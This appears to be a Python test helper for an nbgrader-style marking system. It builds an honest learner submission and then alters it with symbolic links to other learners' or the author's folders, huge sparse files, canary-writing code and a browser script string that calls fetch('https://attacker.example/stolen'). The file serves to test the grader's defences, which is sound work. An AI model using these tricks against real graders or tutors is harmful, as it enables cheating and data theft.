"""An honest submission of the small course, and the tools to change it into a hostile one."""

from __future__ import annotations

import json
import os
import shlex
import shutil
import struct
import zlib
from base64 import b64encode
from contextlib import contextmanager
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

from support.courses import nbgrader_metadata, responses_text

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from support.courses import Course

# Sorting earns 1 of 3: one right, one wrong, one blank. The order keeps three of its
# four entries in the right order to each other, which earns 2 of 3.
ANSWERS: dict[str, dict[str, Any]] = {
    "sorting": {"hours": "query", "late": "query"},
    "steps": {"informal": ["listen", "agree", "check", "record"]},
}
WRITTEN = "Records help *everyone* who deals with the customer after us."

HIT = "window.hit=1;document.title='hit';fetch('https://attacker.example/stolen')"
"""What a script does in the tutor's browser, if it ever runs."""


@dataclass(frozen=True)
class Submission:
    """A learner's submission in a course, honest until a builder changes it.

    Parameters
    ----------
    course : Course
        The small course, released.
    learner : str
        The name of the learner's folder.
    outside : Path
        A folder outside the course that holds ``secret.txt`` and ``canaries/``.
    """

    course: Course
    learner: str
    outside: Path

    def hand_in(self) -> None:
        """Put the honest submission in its place."""
        self.course.submit(self.learner, ANSWERS, {"written": WRITTEN})

    @property
    def folder(self) -> Path:
        """The folder that is marked: ``submitted/<learner>/mini``."""
        return self.course.folder / "submitted" / self.learner / "mini"

    def of(self, learner: str) -> Path:
        """Return another learner's folder."""
        return self.course.folder / "submitted" / learner / "mini"

    @property
    def source(self) -> Path:
        """The author's folder, where the keys are."""
        return self.course.folder / "source" / "mini"

    @property
    def released(self) -> list[Path]:
        """What learners were given beside the notebook."""
        return [path for path in (self.course.folder / "release" / "mini").iterdir() if path.suffix != ".ipynb"]

    @property
    def canary(self) -> Path:
        """A file that exists only if the learner's code has run."""
        return self.outside / "canaries" / quote(os.fsencode(self.learner), safe="")

    @property
    def python(self) -> str:
        """Python code that leaves the canary."""
        return f"open({str(self.canary)!r}, 'w').close()"

    @property
    def shell(self) -> str:
        """A shell command that leaves the canary."""
        return f"touch {shlex.quote(str(self.canary))}"

    @contextmanager
    def notebook(self) -> Iterator[dict[str, Any]]:
        """Give the notebook as plain JSON to edit, and write it back."""
        with _edited(self.folder / "mini.ipynb") as notebook:
            yield notebook

    @contextmanager
    def responses(self) -> Iterator[dict[str, Any]]:
        """Give the answers file as plain JSON to edit, and write it back."""
        with _edited(self.folder / "responses.json") as responses:
            yield responses

    def respond(self, exercise: str, **answers: Any) -> None:
        """Give other answers to some items of an exercise."""
        with self.responses() as responses:
            responses["exercises"][exercise] |= json.loads(responses_text({"": answers}))["exercises"][""]

    def answer(self, text: str) -> None:
        """Write another written answer."""
        with self.notebook() as notebook:
            cell(notebook, "written")["source"] = text

    @property
    def written(self) -> str:
        """The written answer as it stands."""
        notebook = json.loads((self.folder / "mini.ipynb").read_text("utf-8"))
        return str(cell(notebook, "written")["source"])

    def write(self, name: str, content: str | bytes) -> None:
        """Put a file into the folder, in the place of what is there."""
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)

    def remove(self, name: str) -> Path:
        """Take a file out of the folder and return its place."""
        path = self.folder / name
        path.unlink(missing_ok=True)
        return path

    def link(self, name: str, target: Path | str) -> None:
        """Put a symbolic link into the folder, in the place of what is there."""
        self.remove(name).symlink_to(target)

    def swell(self, name: str, size: int) -> None:
        """Put a file of `size` zero bytes into the folder; it takes no room on the disk."""
        with self.remove(name).open("wb") as file:
            file.truncate(size)

    def replace_folder_by_link(self, target: Path) -> None:
        """Hand in a link to another folder in place of one's own."""
        shutil.rmtree(self.folder)
        self.folder.symlink_to(target, target_is_directory=True)


@contextmanager
def _edited(path: Path) -> Iterator[dict[str, Any]]:
    data = json.loads(path.read_text("utf-8"))
    yield data
    path.write_text(json.dumps(data), encoding="utf-8")


def cell(notebook: dict[str, Any], name: str) -> dict[str, Any]:
    """Return the cell that nbgrader knows by `name`."""
    return next(c for c in notebook["cells"] if c["metadata"]["nbgrader"]["grade_id"] == name)


def code_cells(notebook: dict[str, Any]) -> list[dict[str, Any]]:
    """Return the cells of the exercises and practices."""
    return [c for c in notebook["cells"] if c["cell_type"] == "code"]


def code(source: Any, outputs: tuple[dict[str, Any], ...] = (), **metadata: Any) -> dict[str, Any]:
    """Return a code cell of the learner's own."""
    return {
        "cell_type": "code", "execution_count": 1, "metadata": metadata, "outputs": list(outputs), "source": source,
    }  # fmt: skip


def markdown(source: Any, **metadata: Any) -> dict[str, Any]:
    """Return a text cell of the learner's own."""
    return {"cell_type": "markdown", "metadata": metadata, "source": source}


def base64_png(width: int, height: int) -> str:
    """Return a PNG picture of one colour; of a huge one the content is left out."""
    pixels = zlib.compress((b"\0" + b"\x80" * width) * height) if width * height < 10**6 else zlib.compress(b"")
    parts = ((b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)), (b"IDAT", pixels), (b"IEND", b""))
    chunks = [
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in parts
    ]
    return b64encode(b"\x89PNG\r\n\x1a\n" + b"".join(chunks)).decode()


def output(**data: Any) -> dict[str, Any]:
    """Return the result of a cell, by type with an underscore for the stroke."""
    named = {key.replace("_", "/", 1): value for key, value in data.items()}
    return {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": named}


def known(name: str, **more: Any) -> dict[str, Any]:
    """Return metadata by which nbgrader would know a cell."""
    return {"nbgrader": nbgrader_metadata(name, **more)}
